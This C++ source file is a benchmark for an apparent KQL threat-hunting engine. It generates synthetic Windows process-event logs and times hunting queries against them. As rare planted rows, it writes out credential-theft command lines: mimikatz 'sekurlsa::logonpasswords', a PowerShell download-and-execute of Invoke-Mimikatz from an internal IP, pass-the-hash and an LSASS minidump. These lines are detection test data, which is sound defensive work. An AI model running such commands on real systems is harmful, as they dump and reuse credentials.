// Hunting benchmark (issue #3): generates a seeded, realistic DeviceProcessEvents table (Zipf
// file names, thousands of devices, tens of thousands of accounts, rare mimikatz lines) plus a
// 1,000-row indicator table, writes it into a Vigil store and as CSV (for
// bench/compare/duckdb_hunt_compare.mjs), then times nine hunting queries with the KQL engine.
// Each query runs in a forked child so its peak RSS is its own. Results (median ms, result
// checks) also go to WORK/vigil_results.json for the DuckDB script to compare against.
// Usage: vigil_hunt_bench [--rows N] [--work DIR] [--runs N] [--only Q1,T2] [--regen] [--explain]
#include <fmt/format.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "vigil/base/time.h"
#include "vigil/base/allocator.h"
#include "vigil/kql/exec/engine.h"
#include "vigil/schema/catalog.h"
#include "vigil/schema/table_batch.h"
#include "vigil/store/store.h"

namespace {

namespace fs = std::filesystem;

// Bump when the generator changes so cached data is rebuilt.
constexpr int kGeneratorVersion = 1;
constexpr const char* kNow = "2026-11-01T00:00:00Z";
constexpr size_t kDevices = 5'000;
constexpr size_t kAccounts = 20'000;
constexpr size_t kFiles = 2'000;
constexpr size_t kIndicators = 1'000;
constexpr size_t kQ6Device = 42;

uint64_t SplitMix(uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

// Small, fast, seeded generator (SplitMix64 stream); identical output on every platform.
class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed) {}
  uint64_t Next() {
    state_ += 0x9e3779b97f4a7c15ULL;
    return SplitMix(state_);
  }
  uint64_t Below(uint64_t n) { return Next() % n; }
  double Unit() { return static_cast<double>(Next() >> 11) * 0x1.0p-53; }

 private:
  uint64_t state_;
};

std::string Hex(uint64_t seed, size_t chars) {
  std::string out;
  for (uint64_t i = 0; out.size() < chars; ++i) {
    out += fmt::format("{:016x}", SplitMix(seed * 131 + i));
  }
  out.resize(chars);
  return out;
}

struct FileInfo {
  std::string name;
  std::string folder;               // with trailing backslash
  std::vector<std::string> sha256;  // variants
};

// The fixed universe the rows draw from.
struct Universe {
  std::vector<std::string> device_ids;
  std::vector<std::string> device_names;
  std::vector<FileInfo> files;  // by Zipf rank
  std::vector<double> file_cdf;
  std::vector<std::string> indicators;
};

Universe MakeUniverse() {
  Universe u;
  for (size_t d = 0; d < kDevices; ++d) {
    u.device_ids.push_back(Hex(0xde000000 + d, 40));
    u.device_names.push_back(d < 4'000 ? fmt::format("ws-{:05}.contoso.local", d)
                                       : fmt::format("srv-{:05}.contoso.local", d));
  }
  static const char* kPopular[] = {"svchost.exe",
                                   "chrome.exe",
                                   "msedge.exe",
                                   "conhost.exe",
                                   "cmd.exe",
                                   "powershell.exe",
                                   "RuntimeBroker.exe",
                                   "backgroundTaskHost.exe",
                                   "taskhostw.exe",
                                   "dllhost.exe",
                                   "rundll32.exe",
                                   "WmiPrvSE.exe",
                                   "SearchProtocolHost.exe",
                                   "OneDrive.exe",
                                   "Teams.exe",
                                   "OUTLOOK.EXE",
                                   "git.exe",
                                   "python.exe",
                                   "node.exe",
                                   "msiexec.exe",
                                   "reg.exe",
                                   "sc.exe",
                                   "net.exe",
                                   "whoami.exe",
                                   "schtasks.exe",
                                   "certutil.exe",
                                   "wscript.exe",
                                   "mshta.exe",
                                   "regsvr32.exe",
                                   "bitsadmin.exe"};
  const size_t popular = std::size(kPopular);
  for (size_t f = 0; f < kFiles; ++f) {
    FileInfo info;
    if (f < popular) {
      info.name = kPopular[f];
      if (info.name == "chrome.exe") {
        info.folder = "C:\\Program Files\\Google\\Chrome\\Application\\";
      } else if (info.name == "msedge.exe") {
        info.folder = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\";
      } else if (info.name == "powershell.exe") {
        info.folder = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\";
      } else {
        info.folder = "C:\\Windows\\System32\\";
      }
    } else {
      static const char* kStems[] = {"app", "svc", "tool", "agent", "update", "helper"};
      info.name = fmt::format("{}{:04}.exe", kStems[f % std::size(kStems)], f);
      info.folder = fmt::format("C:\\Program Files\\Vendor{:03}\\Product{}\\", f % 400, f % 7);
    }
    const size_t variants = 1 + SplitMix(f) % 4;
    for (size_t v = 0; v < variants; ++v) {
      info.sha256.push_back(Hex(0x5a000000 + f * 8 + v, 64));
    }
    u.files.push_back(std::move(info));
  }
  // Zipf, s = 1.1, over the ranks.
  double total = 0;
  for (size_t f = 0; f < kFiles; ++f) {
    total += std::pow(static_cast<double>(f + 1), -1.1);
    u.file_cdf.push_back(total);
  }
  for (double& c : u.file_cdf) {
    c /= total;
  }
  // Half the indicators are hashes of rarer variants present in the data, half are absent.
  for (size_t f = 40; f < kFiles && u.indicators.size() < kIndicators / 2; f += 2) {
    if (u.files[f].sha256.size() > 1) {
      u.indicators.push_back(u.files[f].sha256[1]);
    }
  }
  for (size_t i = 0; u.indicators.size() < kIndicators; ++i) {
    u.indicators.push_back(Hex(0x10c0000 + i, 64));
  }
  return u;
}

struct Row {
  int64_t ts = 0;
  size_t device = 0;
  std::string file;
  std::string folder_path;
  std::string sha256;
  int64_t pid = 0;
  std::string cmd;
  std::string account;
  std::string parent;
};

const char* kFiller[] = {"--type=renderer",
                         "/c",
                         "-NoProfile",
                         "-NonInteractive",
                         "/quiet",
                         "-k",
                         "netsvcs",
                         "-p",
                         "-s",
                         "Schedule",
                         "--lang=en-US",
                         "/norestart",
                         "-ExecutionPolicy",
                         "Bypass",
                         "--no-sandbox",
                         "/S",
                         "-Embedding",
                         "--enable-features=NetworkService",
                         "/log",
                         "-WindowStyle",
                         "Hidden"};

void AddFiller(Rng& rng, size_t target, std::string& cmd) {
  while (cmd.size() < target) {
    const uint64_t pick = rng.Below(10);
    std::string token;
    if (pick < 5) {
      token = kFiller[rng.Below(std::size(kFiller))];
    } else if (pick < 7) {
      token = fmt::format("C:\\Users\\user{:05}\\AppData\\Local\\Temp\\{:08x}.tmp",
                          rng.Below(kAccounts), rng.Next() & 0xffffffffULL);
    } else if (pick < 8) {
      token = fmt::format("--field-trial-handle={},{}", rng.Below(100000), rng.Below(1000));
    } else if (pick < 9) {
      token = fmt::format("{{{:08X}-{:04X}-{:04X}-{:012X}}}", rng.Next() & 0xffffffffULL,
                          rng.Below(65536), rng.Below(65536), rng.Next() & 0xffffffffffffULL);
    } else {
      token = fmt::format("/id:{}", rng.Below(1'000'000));
    }
    if (cmd.size() + 1 + token.size() > 300) {
      break;
    }
    cmd += ' ';
    cmd += token;
  }
}

// The rare credential-theft lines: contains "mimikatz" in several spellings; `has` matches all
// but the mimikatz64 one (one term); two carry "sekurlsa" too.
void MakeMimikatz(Rng& rng, Row& row) {
  switch (rng.Below(4)) {
    case 0:
      row.file = "mimikatz.exe";
      row.folder_path = "C:\\Users\\Public\\mimikatz.exe";
      row.cmd = "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit";
      break;
    case 1:
      row.file = "powershell.exe";
      row.folder_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
      row.cmd =
          "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString("
          "'http://10.20.30.40/Invoke-MiMiKaTz.ps1'); Invoke-MiMiKaTz -DumpCreds\"";
      break;
    case 2:
      row.file = "mimi.exe";
      row.folder_path = "C:\\Temp\\MIMIKATZ\\x64\\mimi.exe";
      row.cmd = "C:\\Temp\\MIMIKATZ\\x64\\mimi.exe \"sekurlsa::pth /user:admin /ntlm:" +
                Hex(rng.Next(), 32) + "\"";
      break;
    default:
      row.file = "mimikatz64.exe";
      row.folder_path = "C:\\tools\\mimikatz64.exe";
      row.cmd = "C:\\tools\\mimikatz64.exe coffee exit";
      break;
  }
  row.sha256 = Hex(0x3171 + row.file.size(), 64);
}

void MakeRow(const Universe& u, Rng& rng, int64_t ts, Row& row) {
  row.ts = ts;
  row.device = rng.Below(kDevices);
  row.pid = static_cast<int64_t>(rng.Below(16'384) * 4);
  const uint64_t who = rng.Below(100);
  row.account = who < 25   ? "system"
                : who < 30 ? "local service"
                : who < 35 ? "network service"
                           : fmt::format("user{:05}", rng.Below(kAccounts));
  static const char* kParents[] = {"explorer.exe", "explorer.exe", "explorer.exe", "svchost.exe",
                                   "svchost.exe",  "services.exe", "cmd.exe",      "powershell.exe",
                                   "chrome.exe",   "WmiPrvSE.exe", "userinit.exe", "msiexec.exe"};
  row.parent = kParents[rng.Below(std::size(kParents))];
  const uint64_t special = rng.Below(200'000);
  if (special < 2) {  // 1 in 100,000
    MakeMimikatz(rng, row);
    return;
  }
  const double draw = rng.Unit();
  const size_t f = static_cast<size_t>(
      std::lower_bound(u.file_cdf.begin(), u.file_cdf.end(), draw) - u.file_cdf.begin());
  const FileInfo& file = u.files[std::min(f, kFiles - 1)];
  row.file = file.name;
  row.folder_path = file.folder + file.name;
  const double v = rng.Unit();
  const size_t variant = std::min<size_t>(v < 0.85   ? 0
                                          : v < 0.95 ? 1
                                          : v < 0.99 ? 2
                                                     : 3,
                                          file.sha256.size() - 1);
  row.sha256 = file.sha256[variant];
  const double len_draw = rng.Unit();
  const size_t target = 40 + static_cast<size_t>(len_draw * len_draw * 260);
  row.cmd.clear();
  if (file.folder.find(' ') != std::string::npos) {
    row.cmd = "\"" + row.folder_path + "\"";
  } else {
    row.cmd = file.name;
  }
  const uint64_t flavour = rng.Below(1000);
  if (file.name == "powershell.exe") {
    if (flavour < 40) {
      row.cmd += " -nop -w hidden -enc " + Hex(rng.Next(), 40 + rng.Below(80));
    } else if (flavour < 50) {
      row.cmd += " -EncodedCommand " + Hex(rng.Next(), 60);
    } else if (flavour < 80) {
      row.cmd += fmt::format(" -c Invoke-WebRequest -Uri http://cdn{}.example.com/p/{}.zip",
                             rng.Below(50), rng.Below(10000));
    } else if (flavour < 100) {
      row.cmd += " -c Invoke-Expression (Get-Content C:\\Scripts\\task.ps1 -Raw)";
    }
  } else if (file.name == "cmd.exe" && flavour < 10) {
    row.cmd += " /c powershell -enc " + Hex(rng.Next(), 48);
  } else if (flavour < 5) {
    row.cmd += fmt::format(" --url http://intranet{}.contoso.local/app", rng.Below(20));
  }
  if (special == 2) {  // "sekurlsa" without mimikatz, 1 in 200,000
    row.cmd += " & rundll32 sekurlsa::minidump lsass.dmp";
  } else if (special == 3) {  // looks close but is neither (no term match, no substring)
    row.cmd += " mimi-katz sekur_lsa";
  }
  AddFiller(rng, target, row.cmd);
}

std::string CsvQuote(std::string_view s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"') {
      out += '"';
    }
    out += c;
  }
  out += '"';
  return out;
}

// Microsecond-granular timestamps in DuckDB's CSV form (`2026-10-24 00:00:00.123456`).
std::string CsvTime(int64_t ticks) {
  std::string s = vigil::FormatDateTime(ticks);  // ...T..:..:...fffffffZ
  s[10] = ' ';
  s.pop_back();
  if (s.size() > 26) {
    s.resize(26);
  }
  return s;
}

void Die(const std::string& what) {
  fmt::print(stderr, "vigil_hunt_bench: {}\n", what);
  std::exit(1);
}

struct Meta {
  size_t rows = 0;
  int version = 0;
};

Meta ReadMeta(const fs::path& path) {
  Meta m;
  std::ifstream in(path);
  std::string key;
  while (in >> key) {
    if (key == "rows") {
      in >> m.rows;
    } else if (key == "version") {
      in >> m.version;
    } else {
      std::string skip;
      std::getline(in, skip);
    }
  }
  return m;
}

void Generate(const Universe& u, size_t rows, const fs::path& work) {
  const auto start = std::chrono::steady_clock::now();
  fs::remove_all(work / "store");
  fs::remove(work / "meta.txt");
  const vigil::schema::TableSchema* schema =
      vigil::schema::Catalog::Default().Find("DeviceProcessEvents");
  if (schema == nullptr) {
    Die("no DeviceProcessEvents in the catalog");
  }
  auto col = [&](const char* name) {
    const int idx = schema->FindColumn(name);
    if (idx < 0) {
      Die(fmt::format("no column {}", name));
    }
    return static_cast<size_t>(idx);
  };
  const size_t c_ts = col("Timestamp"), c_devid = col("DeviceId"), c_devname = col("DeviceName"),
               c_action = col("ActionType"), c_file = col("FileName"), c_folder = col("FolderPath"),
               c_sha = col("SHA256"), c_pid = col("ProcessId"), c_cmd = col("ProcessCommandLine"),
               c_acct = col("AccountName"), c_parent = col("InitiatingProcessFileName");
  vigil::store::StoreOptions options;
  options.dir = work / "store";
  auto opened = vigil::store::Store::Open(options, vigil::schema::Catalog::Default());
  if (!opened.ok()) {
    Die("store: " + opened.status().ToString());
  }
  std::unique_ptr<vigil::store::Store> store = std::move(*opened);
  std::FILE* csv = std::fopen((work / "process_events.csv").c_str(), "wb");
  if (csv == nullptr) {
    Die("cannot write the CSV");
  }
  std::string buf =
      "Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,ProcessId,"
      "ProcessCommandLine,AccountName,InitiatingProcessFileName\n";
  const int64_t now = *vigil::ParseDateTime(kNow);
  const int64_t span = 30 * vigil::kTicksPerDay;
  const int64_t first = now - span;
  Rng rng(20261101);
  vigil::schema::TableBatch batch(*schema);
  constexpr size_t kBatchRows = 65'536;
  batch.Reserve(kBatchRows);
  Row row;
  for (size_t i = 0; i < rows; ++i) {
    // Arrival order with a little jitter; microsecond granularity so CSV and store agree.
    const int64_t base =
        first + static_cast<int64_t>(static_cast<double>(span) * (static_cast<double>(i) + 0.5) /
                                     static_cast<double>(rows));
    int64_t ts = base + static_cast<int64_t>(rng.Below(10'000'000)) - 5'000'000;
    ts = std::clamp<int64_t>(ts, first + 10, now - 10);
    ts -= ts % vigil::kTicksPerMicrosecond;
    MakeRow(u, rng, ts, row);
    batch.BeginRow();
    batch.SetInt(c_ts, ts);
    batch.SetBytes(c_devid, u.device_ids[row.device]);
    batch.SetBytes(c_devname, u.device_names[row.device]);
    batch.SetBytes(c_action, "ProcessCreated");
    batch.SetBytes(c_file, row.file);
    batch.SetBytes(c_folder, row.folder_path);
    batch.SetBytes(c_sha, row.sha256);
    batch.SetInt(c_pid, row.pid);
    batch.SetBytes(c_cmd, row.cmd);
    batch.SetBytes(c_acct, row.account);
    batch.SetBytes(c_parent, row.parent);
    buf += fmt::format("{},{},{},ProcessCreated,{},{},{},{},{},{},{}\n", CsvTime(ts),
                       u.device_ids[row.device], u.device_names[row.device], row.file,
                       CsvQuote(row.folder_path), row.sha256, row.pid, CsvQuote(row.cmd),
                       row.account, row.parent);
    if (batch.rows() == kBatchRows || i + 1 == rows) {
      const vigil::Status appended = store->Append(batch);
      if (!appended.ok()) {
        Die("append: " + appended.ToString());
      }
      batch.Clear();
      if (std::fwrite(buf.data(), 1, buf.size(), csv) != buf.size()) {
        Die("CSV write failed");
      }
      buf.clear();
    }
    if ((i + 1) % 1'000'000 == 0) {
      fmt::print(stderr, "  generated {} rows\n", i + 1);
    }
  }
  std::fclose(csv);
  for (const vigil::Status& s : {store->Flush(), store->Compact(), store->Close()}) {
    if (!s.ok()) {
      Die("store: " + s.ToString());
    }
  }
  {
    std::ofstream ind(work / "indicators.csv");
    ind << "Sha256\n";
    for (const auto& h : u.indicators) {
      ind << h << "\n";
    }
  }
  {
    std::ofstream meta(work / "meta.txt");
    meta << "version " << kGeneratorVersion << "\nrows " << rows << "\nnow " << kNow << "\ndevice "
         << u.device_names[kQ6Device] << "\n";
  }
  uint64_t store_bytes = 0;
  for (const auto& entry : fs::recursive_directory_iterator(work / "store")) {
    if (entry.is_regular_file()) {
      store_bytes += entry.file_size();
    }
  }
  fmt::print("generated {} rows in {:.1f} s: store {:.1f} MB ({:.1f} bytes/row), CSV {:.1f} MB\n",
             rows, std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(),
             static_cast<double>(store_bytes) / 1e6,
             static_cast<double>(store_bytes) / static_cast<double>(rows),
             static_cast<double>(fs::file_size(work / "process_events.csv")) / 1e6);
}

// How a query's result is reduced to a comparable check string (the DuckDB script does the
// same): a count, the sorted list of a column's values, or the row count and a column's sum.
enum class CheckKind { kCount, kSortedList, kRowsAndSum };

struct Query {
  std::string id;
  std::string kql;
  CheckKind check;
  std::string column;  // for kSortedList / kRowsAndSum
};

std::vector<Query> Queries(const std::string& device) {
  return {
      {"Q1",
       "DeviceProcessEvents | where Timestamp > ago(7d) and FileName =~ \"powershell.exe\" and "
       "ProcessCommandLine contains \"-enc\" | count",
       CheckKind::kCount, ""},
      {"Q2",
       "DeviceProcessEvents | where FileName in~ (\"cmd.exe\",\"powershell.exe\") | summarize "
       "count() by DeviceName | top 10 by count_",
       CheckKind::kSortedList, "count_"},
      {"Q3", "DeviceProcessEvents | summarize dcount(DeviceId) by FileName", CheckKind::kRowsAndSum,
       "dcount_DeviceId"},
      {"Q4", "DeviceProcessEvents | where ProcessCommandLine contains \"mimikatz\" | count",
       CheckKind::kCount, ""},
      {"Q5",
       "DeviceProcessEvents | join kind=inner (Indicators) on $left.SHA256 == $right.Sha256 | "
       "count",
       CheckKind::kCount, ""},
      {"Q6",
       "DeviceProcessEvents | where DeviceName == \"" + device +
           "\" | summarize count() by bin(Timestamp, 1h)",
       CheckKind::kRowsAndSum, "count_"},
      {"Q7", "DeviceProcessEvents | summarize arg_max(Timestamp, *) by DeviceId | count",
       CheckKind::kCount, ""},
      {"T1", "DeviceProcessEvents | where ProcessCommandLine has \"mimikatz\" | count",
       CheckKind::kCount, ""},
      {"T2",
       "DeviceProcessEvents | where ProcessCommandLine has_any (\"mimikatz\", \"sekurlsa\") | "
       "count",
       CheckKind::kCount, ""},
  };
}

std::string Check(const Query& q, const vigil::kql::Table& t) {
  if (q.check == CheckKind::kCount) {
    if (t.rows != 1 || t.cols.empty()) {
      return fmt::format("rows={}", t.rows);
    }
    return std::to_string(t.cols[0][0].AsInt64());
  }
  const int c = vigil::kql::FindColumn(t.schema, q.column);
  if (c < 0) {
    return fmt::format("no column {}", q.column);
  }
  std::vector<int64_t> values;
  for (const auto& v : t.cols[static_cast<size_t>(c)]) {
    values.push_back(v.AsInt64());
  }
  if (q.check == CheckKind::kSortedList) {
    std::sort(values.rbegin(), values.rend());
    return fmt::format("{}", fmt::join(values, ","));
  }
  int64_t sum = 0;
  for (int64_t v : values) {
    sum += v;
  }
  return fmt::format("rows={} sum={}", t.rows, sum);
}

struct Outcome {
  std::string id;
  double median_ms = 0;
  double min_ms = 0;
  int runs = 0;
  size_t rows = 0;
  std::string check;
  long max_rss_kb = 0;
  uint64_t engine_peak_bytes = 0;
  uint64_t rows_scanned = 0;
  uint64_t blocks_skipped = 0;
  std::string error;
  std::string load;
};

std::string LoadAverage() {
  std::ifstream in("/proc/loadavg");
  std::string one, five, fifteen;
  in >> one >> five >> fifteen;
  return one + " " + five + " " + fifteen;
}

// Runs in the forked child: opens the store, runs the query 1 + runs times, reports one line.
std::string RunChild(const fs::path& work, const Query& q, int runs, double budget_s,
                     bool explain) {
  vigil::store::StoreOptions options;
  options.dir = work / "store";
  options.background_flush = false;
  auto opened = vigil::store::Store::Open(options, vigil::schema::Catalog::Default());
  if (!opened.ok()) {
    return "error\tstore: " + opened.status().ToString();
  }
  std::unique_ptr<vigil::store::Store> store = std::move(*opened);
  vigil::kql::Engine engine(store.get(), &vigil::schema::Catalog::Default());
  auto indicators = std::make_shared<vigil::kql::Table>();
  indicators->Reset({{"Sha256", vigil::kql::Type::kString}});
  for (const auto& h : MakeUniverse().indicators) {
    indicators->cols[0].push_back(vigil::kql::Value::String(h));
  }
  indicators->rows = indicators->cols[0].size();
  engine.AddTable("Indicators", indicators);
  vigil::kql::QueryOptions qo;
  qo.now_ticks = *vigil::ParseDateTime(kNow);
  qo.limits.memory_budget_bytes = size_t{12} << 30;
  if (explain) {
    auto plan = engine.Explain(q.kql, qo);
    fmt::print(stderr, "--- {} plan:\n{}\n", q.id, plan ? *plan : plan.error().ToString());
  }
  std::vector<double> times;
  std::string check;
  size_t rows = 0;
  uint64_t peak = 0, scanned = 0, skipped = 0;
  double spent = 0;
  for (int r = 0; r <= runs; ++r) {  // run 0 warms up
    const auto start = std::chrono::steady_clock::now();
    auto result = engine.Run(q.kql, qo);
    const double ms =
        std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
    if (!result) {
      return "error\t" + result.error().code + ": " + result.error().ToString();
    }
    rows = result->table->rows;
    check = Check(q, *result->table);
    peak = std::max<uint64_t>(peak, result->stats.peak_memory_bytes);
    scanned = result->stats.rows_scanned;
    skipped = result->stats.blocks_skipped;
    spent += ms / 1000;
    if (r > 0) {
      times.push_back(ms);
    }
    if (spent > budget_s && r >= 1) {
      break;
    }
    if (r == 0 && spent > budget_s) {  // slow: one timed run after the warm-up, no more
      runs = 1;
    }
  }
  std::sort(times.begin(), times.end());
  rusage usage{};
  getrusage(RUSAGE_SELF, &usage);
  return fmt::format("ok\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}", times[times.size() / 2], times[0],
                     times.size(), rows, usage.ru_maxrss, peak, scanned, skipped, check);
}

Outcome RunQuery(const fs::path& work, const Query& q, int runs, double budget_s, bool explain) {
  Outcome out;
  out.id = q.id;
  out.load = LoadAverage();
  int fds[2];
  if (pipe(fds) != 0) {
    Die("pipe failed");
  }
  std::fflush(stdout);
  std::fflush(stderr);
  const pid_t pid = fork();
  if (pid < 0) {
    Die("fork failed");
  }
  if (pid == 0) {
    close(fds[0]);
    const std::string line = RunChild(work, q, runs, budget_s, explain);
    size_t done = 0;
    while (done < line.size()) {
      const ssize_t n = write(fds[1], line.data() + done, line.size() - done);
      if (n <= 0) {
        break;
      }
      done += static_cast<size_t>(n);
    }
    close(fds[1]);
    std::fflush(stderr);
    _exit(0);
  }
  close(fds[1]);
  std::string text;
  char chunk[4096];
  ssize_t n;
  while ((n = read(fds[0], chunk, sizeof(chunk))) > 0) {
    text.append(chunk, static_cast<size_t>(n));
  }
  close(fds[0]);
  int status = 0;
  waitpid(pid, &status, 0);
  std::vector<std::string> parts;
  std::stringstream ss(text);
  std::string part;
  while (std::getline(ss, part, '\t')) {
    parts.push_back(part);
  }
  if (parts.size() == 10 && parts[0] == "ok") {
    out.median_ms = std::stod(parts[1]);
    out.min_ms = std::stod(parts[2]);
    out.runs = std::stoi(parts[3]);
    out.rows = std::stoull(parts[4]);
    out.max_rss_kb = std::stol(parts[5]);
    out.engine_peak_bytes = std::stoull(parts[6]);
    out.rows_scanned = std::stoull(parts[7]);
    out.blocks_skipped = std::stoull(parts[8]);
    out.check = parts[9];
  } else if (parts.size() >= 2 && parts[0] == "error") {
    out.error = parts[1];
  } else {
    out.error = fmt::format("child failed (wait status {})", status);
  }
  return out;
}

std::string JsonString(std::string_view s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') {
      out += '\\';
    }
    out += c;
  }
  return out + "\"";
}

}  // namespace

int main(int argc, char** argv) {
  vigil::TuneAllocator();
  size_t rows = 10'000'000;
  fs::path work;
  int runs = 5;
  double budget_s = 120;
  bool regen = false;
  bool explain = false;
  std::string only;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--rows" && i + 1 < argc) {
      rows = std::stoull(argv[++i]);
    } else if (arg == "--work" && i + 1 < argc) {
      work = argv[++i];
    } else if (arg == "--runs" && i + 1 < argc) {
      runs = std::max(1, std::stoi(argv[++i]));
    } else if (arg == "--budget" && i + 1 < argc) {
      budget_s = std::stod(argv[++i]);
    } else if (arg == "--only" && i + 1 < argc) {
      only = argv[++i];
    } else if (arg == "--regen") {
      regen = true;
    } else if (arg == "--explain") {
      explain = true;
    } else {
      fmt::print(stderr,
                 "usage: vigil_hunt_bench [--rows N] [--work DIR] [--runs N] [--budget SECONDS] "
                 "[--only Q1,T2] [--regen] [--explain]\n");
      return 1;
    }
  }
  if (work.empty()) {
    work = fs::temp_directory_path() / fmt::format("vigil-hunt-{}", rows);
  }
  fs::create_directories(work);
  const Meta meta = ReadMeta(work / "meta.txt");
  if (regen && meta.rows == rows && std::getenv("VIGIL_HUNT_BENCH_REEXEC") != nullptr) {
    regen = false;  // --regen already done by the process that exec'd us
  }
  if (regen || meta.rows != rows || meta.version != kGeneratorVersion ||
      !fs::exists(work / "store")) {
    fmt::print("generating {} rows into {}\n", rows, work.string());
    Generate(MakeUniverse(), rows, work);
    // Start afresh so the forked query children do not inherit the generator's heap (their
    // peak RSS would include it).
    std::fflush(stdout);
    setenv("VIGIL_HUNT_BENCH_REEXEC", "1", 1);
    std::vector<char*> args(argv, argv + argc);
    args.push_back(nullptr);
    execv("/proc/self/exe", args.data());
    fmt::print(stderr, "note: re-exec failed; peak RSS figures include the generator\n");
  } else {
    fmt::print("using cached data in {} ({} rows)\n", work.string(), rows);
  }
  const Universe universe = MakeUniverse();
  std::vector<Outcome> outcomes;
  fmt::print("{:<4} {:>10} {:>10} {:>5} {:>8} {:>10} {:>12} {:>14}  {:<16} {}\n", "id", "median ms",
             "min ms", "runs", "rows", "peak RSS", "engine peak", "rows scanned", "load avg",
             "check");
  for (const Query& q : Queries(universe.device_names[kQ6Device])) {
    if (!only.empty() && ("," + only + ",").find("," + q.id + ",") == std::string::npos) {
      continue;
    }
    Outcome o = RunQuery(work, q, runs, budget_s, explain);
    if (!o.error.empty()) {
      fmt::print("{:<4} ERROR {}  [{}]\n", o.id, o.error, o.load);
    } else {
      fmt::print("{:<4} {:>10.1f} {:>10.1f} {:>5} {:>8} {:>7} MB {:>9} MB {:>14}  {:<16} {}\n",
                 o.id, o.median_ms, o.min_ms, o.runs, o.rows, o.max_rss_kb / 1024,
                 o.engine_peak_bytes >> 20, o.rows_scanned, o.load, o.check);
    }
    std::fflush(stdout);
    outcomes.push_back(std::move(o));
  }
  std::ofstream json(work / "vigil_results.json");
  json << "{\"rows\":" << rows << ",\"queries\":[";
  for (size_t i = 0; i < outcomes.size(); ++i) {
    const Outcome& o = outcomes[i];
    json << (i ? "," : "") << "{\"id\":" << JsonString(o.id) << ",\"median_ms\":" << o.median_ms
         << ",\"runs\":" << o.runs << ",\"rows\":" << o.rows << ",\"max_rss_kb\":" << o.max_rss_kb
         << ",\"check\":" << JsonString(o.check) << ",\"error\":" << JsonString(o.error)
         << ",\"load\":" << JsonString(o.load) << "}";
  }
  json << "]}\n";
  return 0;
}
